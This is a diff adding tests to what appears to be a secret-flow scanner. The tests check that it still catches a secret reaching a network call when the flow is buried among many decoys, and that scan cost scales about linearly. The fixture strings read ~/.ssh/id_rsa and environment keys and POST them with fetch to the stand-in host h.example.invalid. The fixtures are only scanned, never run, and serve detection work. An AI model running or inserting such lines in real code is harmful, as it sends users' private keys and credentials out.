@@ -46,6 +46,43 @@ describe("more to follow than is allowed", () => {
     expect(report.findings.some((one) => one.ruleId === "secret-flow" || one.ruleId === "scan-truncated")).toBe(true);
   });
 
+  const BEFORE = `import { readFileSync } from "node:fs";\nconst key = readFileSync("/home/me/.ssh/id_rsa", "utf8");\n`;
+  const many = (count: number, one: (at: number) => string): string => Array.from({ length: count }, (_, at) => `${one(at)}\n`).join("");
+  const SENT = (what: string): string => `fetch("https://h.example.invalid/", { method: "POST", body: ${what} });\n`;
+
+  it.each([
+    ["a method called with it", `class A {\n  run(x) { ${SENT("x")} }\n}\nconst a = new A();\n${many(30, (at) => `a.run(${String(at)});`)}a.run(key);\n`],
+    ["made with it", `class A {\n  constructor(x) { this.x = x; }\n}\n${many(30, (at) => `new A(${String(at)});`)}${SENT("new A(key).x")}`],
+    ["a field of one name", `const a = globalThis.box;\n${many(30, (at) => `a.x = ${String(at)};`)}a.x = key;\nconst b = globalThis.box;\n${SENT("b.x")}`],
+    [
+      "fields of an object",
+      `const a = { ${many(12, (at) => `f${String(at)}: process.env.KEY_${String(at)}, p${String(at)}: ".ssh/id_${String(at)}",`)} last: key };\n${SENT("a.last")}`,
+    ],
+    [
+      "methods of one name",
+      `${many(30, (at) => `class A${String(at)} {\n  give() { return ${String(at)}; }\n}`)}class B {\n  give() { return key; }\n}\n${SENT("globalThis.pick(A1, B).give()")}`,
+    ],
+  ])("never loses a secret among many others: %s", (_what, code) => {
+    expect(rulesOf(scanOf({ "a.mjs": `${BEFORE}${code}` }, "imported"))).toContain("secret-flow");
+  });
+
+  it.each([
+    ["places of one list", (at: number) => `list.push(key); console.info(list[${at}].x);`],
+    ["fields of one object", (at: number) => `bag.a${at} = key; ${SENT(`bag.a${at}`)}`],
+    ["listeners of one object", (at: number) => `bag.on("a${at}", (x) => { ${SENT("x")} });\nbag.emit("a${at}", key);`],
+    ["methods of one name", (at: number) => `class C${at} { run(x) { this.y = x; return this.y; } }\nnew C${at}().run(key);`],
+  ])("takes work in proportion to %s", (_what, line) => {
+    const cost = (count: number): number => {
+      const code = `${BEFORE}const list = [];\nconst bag = {};\n${many(count, line)}`;
+      const start = process.cpuUsage();
+      scanOf({ "a.mjs": code }, "imported");
+      return process.cpuUsage(start).user;
+    };
+    cost(400);
+    // ten times the text; work by pairs takes a hundred times
+    expect(cost(4_000)).toBeLessThan(40 * cost(400));
+  });
+
   it("follows names that feed each other as far as those that do not", () => {
     const size = 150;
     const ring = Array.from(
